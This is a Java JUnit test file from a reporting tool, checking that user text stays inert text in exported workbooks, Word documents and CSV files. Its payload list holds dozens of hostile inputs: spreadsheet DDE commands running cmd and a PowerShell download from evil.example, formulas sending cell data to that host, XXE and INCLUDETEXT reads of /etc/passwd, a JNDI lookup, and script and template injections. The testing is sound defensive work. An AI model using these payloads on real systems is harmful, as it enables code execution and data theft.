package org.scrutineer.publication;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.scrutineer.catalogue.ReportingPeriod;
import org.scrutineer.commentary.Explanation;
import org.scrutineer.indicators.IndicatorValue.Status;
import org.scrutineer.workbook.DocumentWriter;
import org.scrutineer.workbook.WorkbookWriter;

/** What people write comes out as text, whatever a program might take it for. */
class InjectionTests {

    private static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=SUM(A1:A9)",
            "=cmd|' /C calc'!A0",
            "=CMD|'/c powershell IEX(wget evil.example/x)'!A1",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "=WEBSERVICE(\"http://evil.example/\"&B2)",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "=INDIRECT(\"'file:///etc/passwd'#$sheet.A1\")",
            "='file:///etc/passwd'#$passwd.A1",
            "={1,2;3,4}",
            "=@SUM(1)",
            "==1+1",
            "=",
            "+1+1",
            "+cmd|' /C notepad'!A0",
            "+44 1604 000000",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "--help",
            "- a list item",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@team",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n+1",
            " =1+1",
            "\u00a0=1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff20SUM(1)",
            "\u22121+1",
            "\u202e=1+1\u202c",
            "\u2066=1+1\u2069",
            "abc\u202egnp.exe",
            "\"=1+1\"",
            "\";=1+1;\"",
            "\",=1+1,\"",
            "a\",\"b\r\n=1+1",
            "'=1+1",
            "''",
            "%0A=1+1",
            ";=1+1",
            "|=1+1",
            "<script>alert(1)</script>",
            "&lt;f&gt;1&lt;/f&gt;",
            "]]><f>1+1</f><![CDATA[",
            "</t></is></c><c r=\"Z1\"><f>1+1</f></c>",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "_x003D_1+1",
            "_x000D_=1",
            "nul\u0000byte and \u0007bell and \u001fseparator",
            "a non-character \ufffe",
            "{ INCLUDETEXT \"/etc/passwd\" }",
            "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }",
            "MERGEFIELD x \\* MERGEFORMAT",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}} #{7*7} <%= 7*7 %>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "mailto:a@b.example?bcc=evil@evil.example");

    /** What no file can hold: of a text's characters those that XML has not, and which kind of line end. */
    private static final String UNTELLABLE = "[\\x00-\\x1f\\ufffd\\ufffe\\ud800\\s]+";

    @TempDir
    static Path folder;

    private static Report workbook;
    private static Report paper;

    @BeforeAll
    static void makeReports() {
        workbook = example(false).report();
        paper = example(true).report();
    }

    private static Example example(boolean asPaper) {
        Example example = Example.aRun().accepted("north", "2022-01-14");
        var codes = new ArrayList<String>();
        for (int place = 0; place < PAYLOADS.size(); place++) {
            String code = "P" + (100 + place);
            codes.add(code);
            example.percent(code, PAYLOADS.get(place), "Theme")
                    .value(code, "650", "1000", "65", Status.COMPLETE)
                    .atMeeting(ReportingPeriod.of(2021, 11), code, "60")
                    .action(new Explanation(
                            code,
                            "head-of-front-door",
                            "60.0 per cent",
                            "because",
                            PAYLOADS.get(place),
                            PAYLOADS.get(place),
                            null,
                            null));
        }
        return asPaper ? example.asPublicPaper(codes.toArray(String[]::new)) : example;
    }

    private static String tellable(String text) {
        return text.replaceAll(UNTELLABLE, " ").strip();
    }

    private static List<String> tellable() {
        return PAYLOADS.stream().map(InjectionTests::tellable).toList();
    }

    @Test
    void areMoreThanSixty() {
        assertThat(Set.copyOf(PAYLOADS)).hasSizeGreaterThanOrEqualTo(60);
    }

    @Test
    void areTextInEachCellOfAWorkbook() throws IOException {
        Path file = folder.resolve("workbook.xlsx");
        new WorkbookWriter().write(AudienceWorkbook.of(workbook), file);

        Set<String> actions = new HashSet<>();
        try (var in = Files.newInputStream(file);
                var read = new XSSFWorkbook(in)) {
            for (Sheet sheet : read) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        if (cell.getCellType() == CellType.FORMULA) {
                            assertThat(cell.getCellFormula()).matches("ROUND\\(100\\*[A-Z]+\\d+/[A-Z]+\\d+,1\\)");
                        } else if (cell.getCellType() == CellType.STRING
                                && sheet.getSheetName().equals("Actions")) {
                            actions.add(tellable(cell.getStringCellValue()));
                        }
                    }
                }
            }
        }
        assertThat(actions).containsAll(tellable());
        try (var zip = new ZipFile(file.toFile())) {
            assertThat(zip.stream().map(part -> part.getName()))
                    .noneMatch(
                            part -> part.matches("(?i).*(externalLink|connections|ddeLink|vba|embeddings|activeX).*"));
        }
    }

    @Test
    void areTextInAParagraphOfADocument() throws IOException {
        Path file = folder.resolve("paper.docx");
        new DocumentWriter().write(PaperDocument.of(paper), file);

        try (var in = Files.newInputStream(file);
                var read = new XWPFDocument(in)) {
            var text = new StringBuilder();
            read.getParagraphs()
                    .forEach(paragraph -> text.append(paragraph.getText()).append('\n'));
            read.getTables().forEach(table -> text.append(table.getText()).append('\n'));
            String told = tellable(text.toString());
            assertThat(tellable()).allSatisfy(payload -> assertThat(told).contains(payload));
        }
        try (var zip = new ZipFile(file.toFile())) {
            String body = new String(
                    zip.getInputStream(zip.getEntry("word/document.xml")).readAllBytes(), StandardCharsets.UTF_8);
            assertThat(body).doesNotContain("<w:fldSimple", "<w:instrText", "<w:fldChar", "<w:object", "<w:altChunk");
        }
    }

    @Test
    void areTextInAFieldOfTheData() throws IOException {
        byte[] csv = IndicatorsCsv.of(workbook);

        List<CSVRecord> records;
        try (var parser = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(new String(csv, StandardCharsets.UTF_8)))) {
            records = parser.getRecords();
        }
        assertThat(records).hasSize(PAYLOADS.size());
        for (int place = 0; place < PAYLOADS.size(); place++) {
            String name = records.get(place).get("indicator_name");
            assertThat(name)
                    .doesNotStartWith("=")
                    .doesNotStartWith("+")
                    .doesNotStartWith("-")
                    .doesNotStartWith("@");
            assertThat(name).matches("(?s)[^\\t\\r\\n\\x00\\uff1d\\uff0b\\uff0d\\uff20].*");
            String payload = PAYLOADS.get(place);
            assertThat(name).isIn(payload, "'" + payload);
        }
    }
}
